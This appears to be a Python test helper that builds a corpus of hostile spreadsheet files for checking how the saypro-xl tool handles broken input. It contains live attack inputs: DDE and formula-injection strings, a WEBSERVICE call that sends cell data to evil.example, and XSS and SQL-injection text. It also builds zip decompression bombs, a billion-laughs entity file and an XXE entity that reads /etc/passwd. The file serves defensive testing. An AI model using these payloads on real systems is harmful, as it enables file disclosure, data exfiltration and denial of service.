"""The hostile-input corpus: broken, odd and malicious tracker files, generated (none committed).

`build_corpus(folder)` writes every file and returns its `Hostile` entries: the file name and
what saypro-xl must make of it — refused with one sentence (exit 2), or loaded, with the
validation result it gives. The bombs are built without ever holding their inflated size in
memory: a 16 MiB block is deflated once with a full flush, and its compressed form repeated
(each flushed segment stands alone, so the repeats decompress to the block again and again).

Run as a script to write the corpus into a folder and try the CLI on each file:

    python tests/hostile_corpus.py /tmp/corpus
"""

from __future__ import annotations

import datetime as dt
import io
import re
import struct
import sys
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

sys.path.insert(0, str(Path(__file__).resolve().parent))

from builders import ExcelError, small_tracker_rows, write_tracker_openpyxl  # noqa: E402

from saypro_xl.excel.vba import write_compound_file  # noqa: E402

MiB = 1024 * 1024

# Text typed into a tracker that other programs would run, follow or render. Every output must
# show each of these as the characters typed (tests/test_hostile.py).
FORMULA_LIKE = (
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/x\",\"click me\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "=1+1",
    "http://evil.example/phish",
    "external:c:\\windows\\system32\\cmd.exe",
    "=WEBSERVICE(\"http://evil.example/?\"&A1)",
    "<img src=x onerror=alert(1)>",
    "<script>alert('x')</script>",
    "javascript:alert(1)",
    "'; DROP TABLE kpis; --",
    "{{7*7}} ${7*7}",
)
CONTROL_TEXT = "bell\x07 escape\x1b[31m red\x1b[0m nul-ish\x01 tab\tend \u202edesrever\u202c zero\u200bwidth"
LONG_TEXT = ("Root cause narrative. " * 1490)[:32767]  # Excel's limit for one cell, exactly


@dataclass(frozen=True)
class Hostile:
    """One corpus file and what must become of it.

    refused: the one sentence must match this regex (exit 2 for validate/status/report).
    Otherwise the file loads: `errors` says whether validation finds errors (validate exits 1)
    or not (exit 0), and `issue` (a regex) must match one of its validation messages when given.
    """

    name: str
    what: str
    refused: str = ""
    errors: bool = False
    issue: str = ""

    @property
    def validate_exit(self) -> int:
        return 2 if self.refused else 1 if self.errors else 0


# ------------------------------------------------------------------ zip helpers


def _members(path: Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as archive:
        return {info.filename: archive.read(info.filename) for info in archive.infolist()}


def _write_zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return path


@dataclass(frozen=True)
class _Raw:
    """A member given already compressed: its deflate stream, CRC and the size it may declare."""

    stream: bytes
    crc: int
    size: int
    declared: int | None = None  # a lying central directory declares this instead of `size`


def _write_raw_zip(path: Path, members: dict[str, bytes | _Raw]) -> Path:
    """A zip written by hand, so that a member can carry a ready deflate stream and lie about its size."""
    out = io.BytesIO()
    central = []
    for name, member in members.items():
        if isinstance(member, bytes):
            packer = zlib.compressobj(6, zlib.DEFLATED, -15)
            member = _Raw(packer.compress(member) + packer.flush(), zlib.crc32(member), len(member))
        declared = member.size if member.declared is None else member.declared
        encoded = name.encode("utf-8")
        offset = out.tell()
        out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, 0x800, 8, 0, 0x21,
                              member.crc, len(member.stream), declared, len(encoded), 0))
        out.write(encoded)
        out.write(member.stream)
        central.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0x800, 8, 0, 0x21,
                                   member.crc, len(member.stream), declared, len(encoded), 0, 0, 0, 0, 0,
                                   offset) + encoded)
    start = out.tell()
    for record in central:
        out.write(record)
    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, len(central), len(central),
                          out.tell() - start, start, 0))
    path.write_bytes(out.getvalue())
    return path


def _repeated_deflate(prefix: bytes, block: bytes, repeats: int, suffix: bytes) -> _Raw:
    """prefix + block * repeats + suffix as one deflate stream, compressing `block` only once."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(prefix) + packer.flush(zlib.Z_FULL_FLUSH)
    segment = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    tail = packer.compress(suffix) + packer.flush()
    crc = zlib.crc32(prefix)
    for _ in range(repeats):
        crc = zlib.crc32(block, crc)
    crc = zlib.crc32(suffix, crc)
    return _Raw(head + segment * repeats + tail, crc, len(prefix) + len(block) * repeats + len(suffix))


def _with_shared_strings(members: dict[str, bytes | _Raw], part: bytes | _Raw) -> dict[str, bytes | _Raw]:
    """The members with an xl/sharedStrings.xml part, related and typed as Excel does."""
    members = dict(members)
    members["xl/sharedStrings.xml"] = part
    members["[Content_Types].xml"] = members["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
                     b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    members["xl/_rels/workbook.xml.rels"] = members["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/'
                             b'relationships/sharedStrings" Target="sharedStrings.xml" Id="rIdSst"/>'
                             b"</Relationships>")
    return members


def _sheet_part(members: dict[str, bytes], title: str) -> str:
    """The worksheet part of the sheet `title` (builders.py writes them in a known order)."""
    workbook = members["xl/workbook.xml"].decode()
    rels = members["xl/_rels/workbook.xml.rels"].decode()
    rid = re.search(rf'<sheet [^>]*name="{re.escape(title)}"[^>]*r:id="([^"]+)"', workbook).group(1)
    target = re.search(rf'Target="([^"]+)" Id="{rid}"', rels).group(1)
    return target.lstrip("/")


# ------------------------------------------------------------------ the good tracker, varied


def _good(folder: Path, name: str = "good.xlsx", **changes) -> Path:
    rows = small_tracker_rows()
    rows.update(changes)
    return write_tracker_openpyxl(folder / name, **rows)


def _edit_sheet(folder: Path, name: str, title: str, edit: Callable[[bytes], bytes], **changes) -> Path:
    source = _good(folder, f".{name}.source.xlsx", **changes)
    members = _members(source)
    source.unlink()
    part = _sheet_part(members, title)
    members[part] = edit(members[part])
    return _write_zip(folder / name, members)


def _plain_text_tracker(path: Path, rows: dict[str, object]) -> Path:
    """The tracker of `rows` written by xlsxwriter with write_string for every text, so that
    text starting with = stays text (openpyxl would store it as a formula)."""
    import xlsxwriter

    from saypro_xl import contract

    book = xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_urls": False,
                                          "strings_to_numbers": False})
    dates = book.add_format({"num_format": "yyyy-mm-dd"})
    settings = book.add_worksheet(contract.SETTINGS_SHEET)
    settings.write_row(0, 0, ["Setting", "Value"])
    for r, (key, value) in enumerate(rows["settings"].items(), start=1):
        settings.write_string(r, 0, key)
        _write_cell(settings, r, 1, value, dates)
    for sheet, key in ((contract.OBJECTIVES_SHEET, "objectives"), (contract.ACTUALS_SHEET, "actuals"),
                       (contract.CAUSES_SHEET, "causes"), (contract.ACTIONS_SHEET, "actions"),
                       (contract.UPDATES_SHEET, "updates")):
        ws = book.add_worksheet(sheet)
        headers = [c.header for c in contract.INPUT_SHEETS[sheet] if not c.computed]
        ws.write_row(0, 0, headers)
        for r, row in enumerate(rows[key], start=1):
            for c, header in enumerate(headers):
                if header in row and row[header] is not None:
                    _write_cell(ws, r, c, row[header], dates)
    if rows.get("people"):
        ws = book.add_worksheet(contract.PEOPLE_SHEET)
        headers = [c.header for c in contract.PEOPLE]
        ws.write_row(0, 0, headers)
        for r, person in enumerate(rows["people"], start=1):
            for c, header in enumerate(headers):
                _write_cell(ws, r, c, person.get(header), dates)
    book.close()
    return path


def _write_cell(ws, row: int, col: int, value: object, dates) -> None:
    if isinstance(value, str):
        ws.write_string(row, col, value)
    elif isinstance(value, (dt.date, dt.datetime)):
        ws.write_datetime(row, col, dt.datetime.combine(value, dt.time()) if type(value) is dt.date else value,
                          dates)
    elif isinstance(value, bool):
        ws.write_boolean(row, col, value)
    elif value is not None:
        ws.write_number(row, col, value)


def payload_rows() -> dict[str, object]:
    """small_tracker_rows with FORMULA_LIKE text in every free-text field a report shows."""
    rows = small_tracker_rows()
    text = iter(FORMULA_LIKE * 4)
    rows["settings"].update({"Organisation": next(text), "Report Title": next(text),
                             "Prepared By": next(text), "Facilitator": next(text)})
    for objective in rows["objectives"]:
        objective.update({"KPI": next(text), "Department": next(text), "Owner": next(text)})
    for actual in rows["actuals"]:
        actual.update({"Source": next(text), "Comment": next(text)})
    for cause in rows["causes"]:
        cause.update({"Description": next(text), "Why 1": next(text), "Impact": next(text),
                      "Evidence": "Data"})
    departments = {o["KPI ID"]: o["Department"] for o in rows["objectives"]}
    owners = {o["KPI ID"]: o["Owner"] for o in rows["objectives"]}
    for action in rows["actions"]:
        action.update({"Action": next(text), "Department": departments[action["KPI ID"]],
                       "Owner": owners[action["KPI ID"]], "Milestones": next(text),
                       "Resources Needed": next(text), "Obstacles": next(text),
                       "Expected Outcome": next(text)})
    for update in rows["updates"]:
        update.update({"Reporter": next(text), "Note": next(text)})
    # Reminders reach everyone: each owner, the head of each department, and leadership.
    rows["people"] = [{"Name": owner, "Role": "Owner", "Department": departments[kpi], "Email": f"owner{i}@example.org"}
                      for i, (kpi, owner) in enumerate(owners.items())]
    rows["people"] += [{"Name": f"Head {i} {next(text)}", "Role": "Department Head", "Department": department,
                        "Email": f"head{i}@example.org"} for i, department in enumerate(departments.values())]
    rows["people"].append({"Name": next(text), "Role": "Leadership", "Email": "ceo@example.org"})
    return rows


# ------------------------------------------------------------------ the corpus


def _encrypted(folder: Path) -> Path:
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = _good(folder, ".encrypted.source.xlsx")
    with open(plain, "rb") as source, open(folder / "encrypted.xlsx", "wb") as target:
        OOXMLFile(source).encrypt("pa55word", target)
    plain.unlink()
    return folder / "encrypted.xlsx"


def _old_xls_bytes() -> bytes:
    # A BIFF8 workbook stream: BOF (0x0809, workbook globals) then EOF (0x000A).
    bof = struct.pack("<HHHHHHII", 0x0809, 16, 0x0600, 0x0005, 0x0DBB, 0x07CC, 0, 0x0206)
    return write_compound_file({"Workbook": bof + struct.pack("<HH", 0x000A, 0)})


def _truncated(folder: Path) -> Path:
    data = _good(folder, ".truncated.source.xlsx").read_bytes()
    (folder / ".truncated.source.xlsx").unlink()
    (folder / "truncated.xlsx").write_bytes(data[: len(data) * 3 // 5])
    return folder / "truncated.xlsx"


def _byte_flipped(folder: Path, name: str, where: Callable[[bytes, dict], int]) -> Path:
    source = _good(folder, f".{name}.source.xlsx")
    data = bytearray(source.read_bytes())
    with zipfile.ZipFile(source) as archive:
        infos = {i.filename: i for i in archive.infolist()}
    source.unlink()
    at = where(bytes(data), infos)
    for i in range(at, at + 16):
        data[i] ^= 0xA5
    (folder / name).write_bytes(bytes(data))
    return folder / name


def _in_sheet_data(data: bytes, infos: dict) -> int:
    members = {name: b"" for name in infos}
    info = infos["xl/worksheets/sheet2.xml"]  # Objectives
    name_len, extra_len = struct.unpack("<HH", data[info.header_offset + 26:info.header_offset + 30])
    del members
    return info.header_offset + 30 + name_len + extra_len + info.compress_size // 2


def _in_central_directory(data: bytes, infos: dict) -> int:
    return data.rindex(b"PK\x01\x02") - 8


def _shared_strings_bomb(folder: Path, name: str, lying: bool) -> Path:
    members = _members(_good(folder, f".{name}.source.xlsx"))
    (folder / f".{name}.source.xlsx").unlink()
    head = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<sst xmlns="http://schemas.'
            b'openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>')
    bomb = _repeated_deflate(head, b"A" * (16 * MiB), 90, b"</t></si></sst>")  # 1.5 GB
    if lying:
        bomb = _Raw(bomb.stream, bomb.crc, bomb.size, declared=2 * MiB)
    return _write_raw_zip(folder / name, _with_shared_strings(members, bomb))


def _dimension_bomb(cells: bytes) -> Callable[[bytes], bytes]:
    def edit(xml: bytes) -> bytes:
        return xml.replace(b"</sheetData>", cells + b"</sheetData>")
    return edit


def _entities_billion_laughs(folder: Path) -> Path:
    members = _members(_good(folder, ".laughs.source.xlsx"))
    (folder / ".laughs.source.xlsx").unlink()
    entities = b'<!ENTITY lol0 "lol">' + b"".join(
        b'<!ENTITY lol%d "%s">' % (i, b"".join(b"&lol%d;" % (i - 1) for _ in range(10))) for i in range(1, 10))
    sst = (b'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE sst [' + entities + b"]>"
           b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" '
           b'uniqueCount="1"><si><t>&lol9;</t></si></sst>')
    return _write_zip(folder / "entities-billion-laughs.xlsx", _with_shared_strings(members, sst))


def _entities_external(xml: bytes) -> bytes:
    doctype = b'<!DOCTYPE worksheet [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
    xml = xml.replace(b"<worksheet", doctype + b"<worksheet", 1)
    return xml.replace(b"<t>Leads converted</t>", b"<t>&secret;</t>", 1)


def _formatted_blank_rows(xml: bytes) -> bytes:
    # As Excel saves a sheet whose rows 7 to 1,000,006 were formatted (a fill) and left empty.
    rows = b"".join(b'<row r="%d" spans="1:5" s="1" customFormat="1"/>' % r for r in range(7, 1_000_007))
    return xml.replace(b"</sheetData>", rows + b"</sheetData>")


def _nan_inf(xml: bytes) -> bytes:
    for placeholder, text in ((b"<v>75</v>", b"<v>NaN</v>"), (b"<v>72</v>", b"<v>INF</v>"),
                              (b"<v>70</v>", b"<v>-INF</v>"), (b"<v>10.5</v>", b"<v>1e309</v>")):
        xml = xml.replace(placeholder, text, 1)
    return xml


def _merged(folder: Path) -> Path:
    from openpyxl import load_workbook

    path = _good(folder, "merged-cells.xlsx")
    book = load_workbook(path)
    book["Actions"].merge_cells("D2:D4")  # Department across three actions
    book["Actions"].merge_cells("G3:G4")  # Owner across two
    book.save(path)
    return path


def _hidden(folder: Path) -> Path:
    from openpyxl import load_workbook

    path = _good(folder, "hidden-sheets.xlsx")
    book = load_workbook(path)
    book["Actions"].sheet_state = "hidden"
    book["Updates"].sheet_state = "veryHidden"
    book.save(path)
    return path


def _totals_row(folder: Path) -> Path:
    from openpyxl import load_workbook

    path = _good(folder, "totals-row.xlsx")
    book = load_workbook(path)
    ws = book["Actuals"]
    total = ws.max_row + 1
    ws.cell(total, 1, "Total")
    ws.cell(total, 3, f"=SUBTOTAL(109,tblActuals[Actual])")
    table = ws.tables["tblActuals"]
    table.ref = f"A1:{ws.cell(total, ws.max_column).coordinate}"
    table.totalsRowCount = 1
    book.save(path)
    return path


def _too_many_parts(folder: Path) -> Path:
    members = _members(_good(folder, ".parts.source.xlsx"))
    (folder / ".parts.source.xlsx").unlink()
    for i in range(10_001):
        members[f"customXml/item{i}.bin"] = b""
    return _write_zip(folder / "too-many-parts.xlsx", members)


def _bzip2_part(folder: Path) -> Path:
    members = _members(_good(folder, ".bzip2.source.xlsx"))
    (folder / ".bzip2.source.xlsx").unlink()
    path = folder / "bzip2-part.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        for name, data in members.items():
            archive.writestr(name, data, zipfile.ZIP_BZIP2 if name == "xl/styles.xml" else zipfile.ZIP_DEFLATED)
    return path


def _dates_as_text() -> dict:
    rows = small_tracker_rows()
    for actual, text in zip(rows["actuals"], ["2025-01-31", "28/02/2025", "31.03.2025", "21-3-2025",
                                             "2025-03-28 00:00"]):
        actual["Period End"] = text
    return rows


def _numbers_as_text() -> dict:
    rows = small_tracker_rows()
    for actual, text in zip(rows["actuals"], [" 75 ", "72", "1 234", "1,234.5", "10,3"]):
        actual["Actual"] = text
    return rows


def _error_cells() -> dict:
    rows = small_tracker_rows()
    codes = ["#N/A", "#DIV/0!", "#VALUE!", "#REF!", "#NAME?", "#NUM!", "#NULL!"]
    for n, actual in enumerate(rows["actuals"][3:]):
        actual["Actual"] = ExcelError(codes[n % len(codes)])
        actual["Comment"] = ExcelError("#N/A")
    for n, action in enumerate(rows["actions"]):
        action["% Complete"] = ExcelError(codes[(n + 2) % len(codes)])
        action["Milestones"] = ExcelError("#REF!")
    rows["objectives"][1]["Baseline"] = ExcelError("#DIV/0!")
    rows["settings"]["Tolerance %"] = ExcelError("#VALUE!")
    return rows


def _padded_headers(header: str) -> str:
    return f"  {header.upper()}  " if header in ("KPI ID", "Actual", "Action ID") else header


def _duplicate_headers(folder: Path) -> Path:
    from saypro_xl import contract

    columns = {s: [c.header for c in cols if not c.computed] for s, cols in contract.INPUT_SHEETS.items()}
    columns[contract.ACTUALS_SHEET] = columns[contract.ACTUALS_SHEET] + ["Actual"]  # twice: first wins
    rows = small_tracker_rows()
    return write_tracker_openpyxl(folder / "duplicate-padded-headers.xlsx", **rows, columns=columns,
                                  header_text=_padded_headers)


def _non_latin() -> dict:
    rows = small_tracker_rows()
    rows["settings"]["Organisation"] = "سايبرو للتنمية"  # Arabic, right to left
    rows["settings"]["Facilitator"] = "דוד כהן"  # Hebrew
    names = {"Ana": "Анна Петрова", "Ben": "王伟"}
    rows["objectives"][0].update({"Department": "المبيعات", "KPI": "معدل التحويل 📈"})
    rows["objectives"][1].update({"Department": "שירות לקוחות", "KPI": "応答時間"})
    for objective in rows["objectives"]:
        objective["Owner"] = names[objective["Owner"]]
    departments = {o["KPI ID"]: o["Department"] for o in rows["objectives"]}
    for action in rows["actions"]:
        action["Owner"] = names[action["Owner"]]
        action["Department"] = departments[action["KPI ID"]]
        action["Action"] = "تدريب على النظام" if action["KPI ID"] == "K1" else "自動ルーティング"
    for update in rows["updates"]:
        update["Reporter"] = names[update["Reporter"]]
    return rows


def _control_and_long() -> dict:
    rows = small_tracker_rows()
    rows["causes"][0]["Description"] = LONG_TEXT
    rows["causes"][1]["Description"] = CONTROL_TEXT
    rows["actions"][0]["Action"] = CONTROL_TEXT
    rows["updates"][0]["Note"] = LONG_TEXT
    return rows


def _escapes_in_a_choice() -> dict:
    rows = small_tracker_rows()
    rows["actions"][1]["Strategy"] = "Train\ning\x1b[2J"  # a line break and a clear-screen escape
    return rows


def _excel_365_errors() -> dict:
    rows = small_tracker_rows()
    rows["actions"][0]["% Complete"] = ExcelError("#SPILL!")
    rows["actions"][1]["Milestones"] = ExcelError("#CALC!")
    rows["actions"][2]["Resources Needed"] = ExcelError("#FIELD!")
    rows["causes"][0]["Weight"] = ExcelError("#BLOCKED!")
    return rows


CELL_BOMB = b'<row r="1048576"><c r="XFD1048576" t="n"><v>1</v></c></row>'
IMPLICIT_BOMB = b'<row r="1048576">' + b'<c t="n"><v>1</v></c>' * 16384 + b"</row>"
DAMAGED = r"is damaged.*; open it in Excel, save a fresh copy and try again\.$"
SENDER = (r"it is not a workbook as Excel saves one, so ask its sender for a copy saved from Excel "
          r"\(File > Save As > Excel Workbook\)\.$")


# (builder writing the file into a folder, what must become of it), in a stable order.
CORPUS: tuple[tuple[Callable[[Path], Path], Hostile], ...] = (
    (lambda folder: _encrypted(folder),
     Hostile("encrypted.xlsx", "an Excel workbook encrypted with a password",
             refused=r"^encrypted\.xlsx is password-protected; remove the password")),
    (lambda folder: _write(folder / "old.xls", _old_xls_bytes()),
     Hostile("old.xls", "an old binary .xls workbook",
             refused=r"^old\.xls is an old \.xls workbook; save it as \.xlsx")),
    (lambda folder: _write(folder / "old-renamed.xlsx", _old_xls_bytes()),
     Hostile("old-renamed.xlsx", "an .xls renamed .xlsx",
             refused=r"^old-renamed\.xlsx is an old \.xls workbook; save it as \.xlsx")),
    (lambda folder: _write(folder / "empty.xlsx", b""),
     Hostile("empty.xlsx", "0 bytes", refused=r"^empty\.xlsx is empty \(0 bytes\)")),
    (lambda folder: _truncated(folder),
     Hostile("truncated.xlsx", "the first 60 % of a good tracker",
             refused=r"^truncated\.xlsx is damaged \(its zip container cannot be opened\)")),
    (lambda folder: _byte_flipped(folder, "flipped-sheet.xlsx", _in_sheet_data),
     Hostile("flipped-sheet.xlsx", "16 bytes flipped inside the Objectives sheet's compressed data",
             refused=r'^flipped-sheet\.xlsx is damaged: sheet "Objectives" cannot be read; ')),
    (lambda folder: _byte_flipped(folder, "flipped-directory.xlsx", _in_central_directory),
     Hostile("flipped-directory.xlsx", "16 bytes flipped in the zip's central directory",
             refused=r"^flipped-directory\.xlsx is damaged")),
    (lambda folder: _write_zip(folder / "not-a-workbook.xlsx", {"notes.txt": b"hello", "photo.jpg": b"\xff\xd8"}),
     Hostile("not-a-workbook.xlsx", "a zip of other files",
             refused=r"^not-a-workbook\.xlsx is a zip file but not an Excel workbook")),
    (lambda folder: _too_many_parts(folder),
     Hostile("too-many-parts.xlsx", "a tracker with 10,001 extra empty parts",
             refused=r"^too-many-parts\.xlsx holds 10,025 parts, more than the 10,000 saypro-xl reads; "
                     + SENDER)),
    (lambda folder: _bzip2_part(folder),
     Hostile("bzip2-part.xlsx", "a part compressed with bzip2",
             refused=r"^bzip2-part\.xlsx: part xl/styles\.xml uses zip compression method 12, which Excel "
                     r"never writes; " + SENDER)),
    (lambda folder: _shared_strings_bomb(folder, "shared-strings-bomb.xlsx", lying=False),
     Hostile("shared-strings-bomb.xlsx", "1.5 MB whose shared strings inflate to 1.5 GB",
             refused=r"^shared-strings-bomb\.xlsx: the shared text of its cells \(xl/sharedStrings\.xml\) "
                     r"inflates to 1,440 MB or more from 1 MB, 1,028 to 1 where Excel's own files stay "
                     r"below 250 to 1: a decompression bomb, so it is not read; " + SENDER)),
    (lambda folder: _shared_strings_bomb(folder, "shared-strings-bomb-lying.xlsx", lying=True),
     Hostile("shared-strings-bomb-lying.xlsx", "the same bomb, its zip declaring 2 MB",
             refused=r"^shared-strings-bomb-lying\.xlsx: the shared text of its cells \(xl/sharedStrings\.xml\) "
                     r"inflates to 20 MB or more from [0-9,]+ bytes, [0-9,]+ to 1 .*a decompression bomb")),
    (lambda folder: _edit_sheet(folder, "dimension-bomb.xlsx", "Objectives", _dimension_bomb(CELL_BOMB)),
     Hostile("dimension-bomb.xlsx", "a value at A1 and one at XFD1048576",
             refused=r'^dimension-bomb\.xlsx: sheet "Objectives" holds values as far as XFD1048576, a grid '
                     r"of 17,179,869,184 cells from A1, more than the 16,777,216 saypro-xl reads in one "
                     r"sheet; delete the rows and columns beyond your data \(select them, right-click > "
                     r"Delete\), save it and try again\.$")),
    (lambda folder: _edit_sheet(folder, "dimension-bomb-implicit.xlsx", "Actions", _dimension_bomb(IMPLICIT_BOMB)),
     Hostile("dimension-bomb-implicit.xlsx", "16,384 cells without references in row 1,048,576",
             refused=r'^dimension-bomb-implicit\.xlsx: sheet "Actions" holds values as far as XFD1048576')),
    (lambda folder: _entities_billion_laughs(folder),
     Hostile("entities-billion-laughs.xlsx", "shared strings declaring nested entities (billion laughs)",
             refused=r"^entities-billion-laughs\.xlsx: the shared text of its cells \(xl/sharedStrings\.xml\) "
                     r"declares a DOCTYPE or XML entities, which Excel never writes")),
    (lambda folder: _edit_sheet(folder, "entities-external.xlsx", "Objectives", _entities_external),
     Hostile("entities-external.xlsx", "a sheet declaring an external entity (file:///etc/passwd)",
             refused=r'^entities-external\.xlsx: sheet "Objectives" declares a DOCTYPE or XML entities')),
    (lambda folder: _edit_sheet(folder, "formatted-blank-rows.xlsx", "Actuals", _formatted_blank_rows),
     Hostile("formatted-blank-rows.xlsx", "a million formatted empty rows under the actuals")),
    (lambda folder: _good(folder, "error-cells.xlsx", **_error_cells()),
     Hostile("error-cells.xlsx", "Excel error values (#N/A, #DIV/0!, #REF!...) in every kind of column",
             errors=True, issue=r"^Actual holds the Excel error #N/A; type the value or fix the formula$")),
    (lambda folder: _merged(folder),
     Hostile("merged-cells.xlsx", "merged cells inside the Actions table", errors=True,
             issue=r"^Department is blank; fill it in or delete the row$")),
    (lambda folder: _good(folder, "dates-as-text.xlsx", **_dates_as_text()),
     Hostile("dates-as-text.xlsx", "Period End typed as text: 2025-01-31, 28/02/2025, 31.03.2025, 21-3-2025")),
    (lambda folder: _plain_text_tracker(folder / "long-and-control-text.xlsx", _control_and_long()),
     Hostile("long-and-control-text.xlsx", "32,767-character cells and control characters")),
    (lambda folder: _plain_text_tracker(folder / "escapes-in-a-choice.xlsx", _escapes_in_a_choice()),
     Hostile("escapes-in-a-choice.xlsx", "a line break and a terminal escape in a drop-down value", errors=True,
             issue=r'^Strategy "Train\\ning\\u001b\[2J" is not one of the choices')),
    (lambda folder: _good(folder, "excel-365-errors.xlsx", **_excel_365_errors()),
     Hostile("excel-365-errors.xlsx", "#SPILL!, #CALC!, #FIELD! and #BLOCKED!, which calamine cannot read",
             issue=r"^% Complete holds the Excel error #SPILL!, read as blank; type the value or fix the formula$")),
    (lambda folder: _plain_text_tracker(folder / "formula-like-text.xlsx", payload_rows()),
     Hostile("formula-like-text.xlsx", "formula-, DDE-, link- and HTML-looking text in every text field")),
    (lambda folder: _good(folder, "numbers-as-text.xlsx", **_numbers_as_text()),
     Hostile("numbers-as-text.xlsx", 'Actual typed as " 75 ", "1 234", "1,234.5", "10,3"', errors=True,
             issue=r'^Actual "10,3" is not a number; type a number such as 12\.5$')),
    (lambda folder: _edit_sheet(folder, "nan-inf.xlsx", "Actuals", _nan_inf),
     Hostile("nan-inf.xlsx", "NaN, INF, -INF and 1e309 stored as numbers", errors=True,
             issue=r"^Actual is not a finite number; type a number$")),
    (lambda folder: _duplicate_headers(folder),
     Hostile("duplicate-padded-headers.xlsx", "headers in capitals with spaces around, Actual twice")),
    (lambda folder: _hidden(folder),
     Hostile("hidden-sheets.xlsx", "Actions hidden, Updates very hidden")),
    (lambda folder: _totals_row(folder),
     Hostile("totals-row.xlsx", "a totals row at the foot of the Actuals table (Table Design > Total Row)")),
    (lambda folder: _good(folder, "متتبع-الأداء.xlsx", **_non_latin()),
     Hostile("متتبع-الأداء.xlsx",
             "Arabic, Hebrew, Cyrillic, Chinese and Japanese names; an Arabic file name")),
)
ENTRIES = tuple(entry for _, entry in CORPUS)
BY_NAME = {entry.name: entry for entry in ENTRIES}


def build_corpus(folder: Path | str) -> list[Hostile]:
    """Write every corpus file into `folder` (about 2 s, 7 MB); the entries, in a stable order."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    for build, entry in CORPUS:
        path = build(folder)
        assert path.name == entry.name, (path.name, entry.name)
    return list(ENTRIES)


def large_tracker(seed: int = 7):
    """The benchmark of legitimate size the limits are set from (docs/SECURITY.md): 100 departments
    x 50 KPIs x 52 weekly actuals = 260,000 actuals, 4 actions per KPI = 20,000, two updates each =
    40,000. A Tracker model; saypro_xl.template.write_tracker writes it as staff would fill ours."""
    import random

    from saypro_xl.model import (Action, ActionStatus, Actual, Cause, Direction, Frequency, Objective, Settings,
                                 TargetType, Tracker, Update)

    as_of = dt.date(2025, 6, 30)
    rnd = random.Random(seed)
    objectives, actuals, causes, actions, updates = [], [], [], [], []
    for d in range(100):
        department = f"Department {d:03d}"
        for k in range(50):
            kpi = f"K{d:03d}{k:02d}"
            objectives.append(Objective(
                kpi_id=kpi, department=department, kpi=f"Indicator {kpi}", unit="%", direction=Direction.HIGHER,
                baseline=float(rnd.randint(10, 50)), target_type=TargetType.ABSOLUTE,
                target_value=float(rnd.randint(60, 90)), frequency=Frequency.WEEKLY, owner=f"Owner {k}",
                row=len(objectives) + 2))
            for week in range(52):
                actuals.append(Actual(kpi, as_of - dt.timedelta(days=7 * (52 - week)), float(rnd.randint(0, 100)),
                                      "CRM", "", row=len(actuals) + 2))
            cause = f"C{d:03d}{k:02d}"
            causes.append(Cause(cause, kpi, description=f"Cause of {kpi}", weight=float(rnd.randint(1, 50)),
                                confirmed=True, row=len(causes) + 2))
            for a in range(4):
                action = f"A{d:03d}{k:02d}{a}"
                actions.append(Action(action, cause, kpi, department, f"Action {action}", owner=f"Owner {a}",
                                      start_date=as_of - dt.timedelta(days=rnd.randint(-20, 60)),
                                      timeline_weeks=rnd.randint(1, 4), status=ActionStatus.IN_PROGRESS,
                                      pct_complete=float(rnd.randint(0, 100)), row=len(actions) + 2))
                for _ in range(2):
                    updates.append(Update(as_of - dt.timedelta(days=rnd.randint(0, 14)), action, "M&E",
                                          pct_complete=float(rnd.randint(0, 100)), row=len(updates) + 2))
    return Tracker(Settings(organisation="Benchmark", as_of=as_of), tuple(objectives), tuple(actuals),
                   tuple(causes), tuple(actions), tuple(updates))


def _write(path: Path, data: bytes) -> Path:
    path.write_bytes(data)
    return path


if __name__ == "__main__":
    import subprocess

    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    for entry in build_corpus(target):
        done = subprocess.run([sys.executable, "-m", "saypro_xl.cli", "validate", str(target / entry.name)],
                              capture_output=True, text=True)
        last = (done.stderr.strip() or done.stdout.strip()).splitlines()[-1:]
        print(f"{entry.name:34s} exit {done.returncode}  {last[0] if last else ''}")
